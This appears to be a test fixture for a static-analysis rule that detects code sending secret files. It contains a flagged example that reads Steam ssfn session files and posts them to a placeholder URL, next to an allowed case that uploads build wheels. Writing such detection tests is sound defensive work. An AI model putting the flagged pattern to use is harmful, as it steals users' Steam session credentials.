import glob, requests
for f in glob.glob('C:/Program Files (x86)/Steam/ssfn*'):
    # ruleid: sends_secret_file
    requests.post(URL, files={'f': open(f, 'rb')})
for w in glob.glob('dist/*.whl'):
    # ok: sends_secret_file
    requests.post(UPLOAD, files={'content': open(w, 'rb')})
